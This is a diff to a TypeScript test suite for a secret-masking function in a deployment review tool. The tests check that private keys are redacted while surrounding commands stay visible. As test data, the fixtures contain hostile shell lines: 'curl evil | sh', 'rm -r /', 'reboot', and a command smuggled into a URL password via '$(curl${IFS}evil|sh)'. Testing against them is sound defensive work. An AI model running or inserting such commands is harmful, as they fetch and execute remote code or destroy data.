@@ -1,5 +1,7 @@
-import { deepEqual, equal, ok } from "node:assert/strict";
+import { deepEqual, equal, match, ok } from "node:assert/strict";
+import { generateKeyPairSync, randomBytes } from "node:crypto";
 import fc from "fast-check";
+import { differences, normalize } from "../../../../operations/review/changeSet.ts";
 import { renderMarkdown } from "../../../../operations/review/markdown.ts";
 import { concealProperties, concealText } from "../../../../operations/review/secrets.ts";
 import { renderTerminal } from "../../../../operations/review/terminal.ts";
@@ -26,6 +28,14 @@ const token = fc.oneof(
     of(lower + upper + digits, 30).map((text) => `eyJhbGciOiJ.eyJ${text}.${text}`),
 );
 
+/** A key as OpenSSH or GnuPG writes it. */
+function armor(label: string, width: number, head = "", end = ""): string {
+    const lines = randomBytes(250)
+        .toString("base64")
+        .match(new RegExp(`.{1,${String(width)}}`, "g"));
+    return `-----BEGIN ${label}-----\n${head}${(lines ?? []).join("\n")}\n${end}-----END ${label}-----\n`;
+}
+
 describe("secrets", function () {
     this.timeout(60_000);
 
@@ -45,13 +55,104 @@ describe("secrets", function () {
             concealText("Authorization: Bearer abcdef0123456789", {}),
             "Authorization: Bearer [secret]",
         );
-        equal(
-            concealText(
-                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nrest",
-                {},
-            ),
-            "[secret]\nrest",
-        );
+    });
+
+    describe("of a private key are masked, however it is written:", () => {
+        const { privateKey: rsa } = generateKeyPairSync("rsa", { modulusLength: 1024 });
+        const { privateKey: edwards } = generateKeyPairSync("ed25519");
+        const keys = {
+            "PKCS #8": edwards.export({ type: "pkcs8", format: "pem" }),
+            "PKCS #1": rsa.export({ type: "pkcs1", format: "pem" }),
+            encrypted: rsa.export({
+                type: "pkcs1",
+                format: "pem",
+                cipher: "aes-256-cbc",
+                passphrase: "a",
+            }),
+            OpenSSH: armor("OPENSSH PRIVATE KEY", 70),
+            PGP: armor("PGP PRIVATE KEY BLOCK", 64, "Version: A v1\n\n", "=aB3d\n"),
+        };
+        const forms: Readonly<Record<string, (key: string) => string>> = {
+            "as a file": (key) => key,
+            "with Windows' line ends": (key) => key.replaceAll("\n", "\r\n"),
+            indented: (key) => key.replaceAll("\n", "\n          "),
+            "in JSON": (key) => JSON.stringify({ key }),
+            "in a variable": (key) => key.replaceAll("\n", " "),
+        };
+        for (const [what, key] of Object.entries(keys))
+            for (const [how, write] of Object.entries(forms))
+                it(`${what}, ${how}`, () => {
+                    const text = concealText(
+                        `before\n${write(key.toString().trimEnd())}\nafter`,
+                        {},
+                    );
+                    match(text, /^before\n(\{"key":")?\[secret\]("\})?\nafter$/);
+                });
+        it("one that does not end, up to its last whole line", () => {
+            const [first = "", second = "", third = ""] = keys["PKCS #1"].toString().split("\n");
+            equal(
+                concealText(`a\n${first}\n${second}\n${third}\nb: c\n`, {}),
+                "a\n[secret]\nb: c\n",
+            );
+        });
+    });
+
+    describe("hide nothing else:", () => {
+        const header = "-----BEGIN A PRIVATE KEY-----";
+        const workflow = (command: string) => `name: "${header}"\non: push\n  - run: ${command}\n`;
+        it("an unfinished key, the workflow after it", () => {
+            equal(
+                concealText(workflow("curl evil | sh"), {}),
+                'name: "[secret]"\non: push\n  - run: curl evil | sh\n',
+            );
+        });
+        it("a key that ends later, the commands in between", () => {
+            for (const command of ["curl evil | sh", "/tmp/evil", "Comment: evil", "reboot"])
+                ok(
+                    concealText(
+                        `${header}\n${command}\n-----END A PRIVATE KEY-----\n`,
+                        {},
+                    ).includes(command),
+                    command,
+                );
+        });
+        it("a password in a URL, that it is a command", () => {
+            equal(
+                concealText("https://x:$(curl${IFS}evil|sh)@y", {}),
+                "https://x:$([secret]${[secret]}[secret]|[secret])@y",
+            );
+            equal(concealText("https://x:a;reboot@y", {}), "https://x:[secret];[secret]@y");
+        });
+        it("a variable, the script that begins with it", () => {
+            const shown = (args: string) =>
+                concealProperties("docker:index/container:Container", { command: ["sh", args] });
+            deepEqual(shown("TOKEN=x; curl evil|sh\nrm -r /\n"), {
+                command: ["sh", "TOKEN=[secret]; [secret] [secret]|[secret]\nrm -r /\n"],
+            });
+            deepEqual(shown('TOKEN="two words"'), {
+                command: ["sh", 'TOKEN="[secret] [secret]"'],
+            });
+        });
+        it("so a workflow that differs after such a text is another change, and is shown", () => {
+            const type = "github:index/repositoryFile:RepositoryFile";
+            const becomes = (content: string) =>
+                readEvents([
+                    step(
+                        "update",
+                        type,
+                        { inputs: { file: ".github/workflows/a.yml", content: "a" } },
+                        { inputs: { file: ".github/workflows/a.yml", content } },
+                    ),
+                    succeeded,
+                ]);
+            const [reviewed, deployed] = [workflow("echo hello"), workflow("curl evil | sh")].map(
+                becomes,
+            );
+            ok(reviewed !== undefined && deployed !== undefined);
+            equal(differences(normalize(reviewed), normalize(deployed)).length, 1);
+            deepEqual(differences(normalize(reviewed), normalize(reviewed)), []);
+            match(renderMarkdown([deployed]), /run: curl evil \| sh/);
+        });
     });
 
     it("do not mask what only looks long: digests, commits, tags, names", () => {
@@ -122,9 +223,14 @@ describe("secrets", function () {
             "A1",
             "Bearer ",
             "-----BEGIN PRIVATE KEY-----",
+            "-----BEGIN PRIVATE KEY-----\nVersion: a",
+            `-----BEGIN PRIVATE KEY-----\n${"a".repeat(40)}\nb `,
+            "\\nabc",
             "a=",
             "@",
         ].map((part) => part.repeat(200_000));
+        texts.push(`-----BEGIN PRIVATE KEY-----${`\n${"a".repeat(40)}`.repeat(200_000)}`);
+        texts.push(`-----BEGIN PRIVATE KEY-----${" \n".repeat(200_000)}`);
         for (const text of texts) {
             const before = performance.now();
             concealText(text, {});
